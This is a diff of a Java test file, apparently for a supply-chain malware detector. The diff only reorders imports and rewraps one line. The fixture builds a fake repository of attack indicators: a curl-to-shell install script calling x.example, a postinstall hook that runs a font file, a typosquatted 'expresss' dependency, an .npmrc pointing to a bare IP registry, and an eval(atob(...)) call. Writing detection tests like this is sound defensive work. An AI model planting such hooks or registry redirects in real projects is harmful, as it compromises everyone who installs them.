@@ -1,13 +1,12 @@
 package dev.bonafide.comparison.takehome;
 
-import dev.bonafide.comparison.Told;
-import dev.bonafide.comparison.ToldRepository;
-
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
 
 import dev.bonafide.check.Comparison;
 import dev.bonafide.check.Look;
+import dev.bonafide.comparison.Told;
+import dev.bonafide.comparison.ToldRepository;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
@@ -82,7 +81,9 @@ final class TakeHomeProperties {
     return ToldRepository.of()
         .blob("bin/agent.exe")
         .file("package.json", "{\"scripts\": {\"postinstall\": \"node public/a.woff2\"},")
-        .file("tool/package.json", "{\"scripts\": {\"install\": \"curl -s https://x.example/a | sh\"}}")
+        .file(
+            "tool/package.json",
+            "{\"scripts\": {\"install\": \"curl -s https://x.example/a | sh\"}}")
         .file("app/package.json", "{\"dependencies\": {\"expresss\": \"1\"}}")
         .file(".npmrc", "registry=http://185.12.44.9:4873/")
         .file("src/hidden.js", "eval(atob('YQ=='))")
